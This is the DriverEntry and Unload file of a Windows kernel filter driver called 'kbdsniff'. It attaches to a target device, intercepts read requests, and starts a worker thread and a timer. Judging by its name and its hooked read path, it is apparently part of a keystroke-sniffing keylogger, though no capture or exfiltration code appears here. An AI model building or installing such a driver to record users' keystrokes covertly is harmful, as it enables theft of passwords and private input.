/*
 * driver.c - kbdsniff DriverEntry / Unload
 */
#include "kbdsniff.h"

KS_STATE KsState;

DRIVER_INITIALIZE DriverEntry;
static DRIVER_UNLOAD KsUnload;

#ifdef ALLOC_PRAGMA
#pragma alloc_text(INIT, DriverEntry)
#pragma alloc_text(PAGE, KsUnload)
#endif

static VOID KsUnload(PDRIVER_OBJECT DriverObject)
{
    UNREFERENCED_PARAMETER(DriverObject);
    PAGED_CODE();

    /* reverse of DriverEntry: timer, filter, worker */
    KsStopTimer();
    KsDetach();
    KsStopWorker();

    KS_LOG("unloaded%s", "");
}

NTSTATUS DriverEntry(PDRIVER_OBJECT DriverObject, PUNICODE_STRING RegistryPath)
{
    NTSTATUS status;
    ULONG i;

    UNREFERENCED_PARAMETER(RegistryPath);

    RtlZeroMemory(&KsState, sizeof(KsState));

    for (i = 0; i <= IRP_MJ_MAXIMUM_FUNCTION; i++) {
        DriverObject->MajorFunction[i] = KsDispatchPass;
    }
    DriverObject->MajorFunction[IRP_MJ_READ] = KsDispatchRead;
    DriverObject->MajorFunction[IRP_MJ_POWER] = KsDispatchPower;

    status = KsStartWorker();
    if (NT_SUCCESS(status)) {
        status = KsAttach(DriverObject);
        if (NT_SUCCESS(status)) {
            KsStartTimer();
            DriverObject->DriverUnload = KsUnload;
            KS_LOG("attached to %ws", KS_TARGET_NAME);
        } else {
            KsStopWorker();
        }
    }

    return status;
}
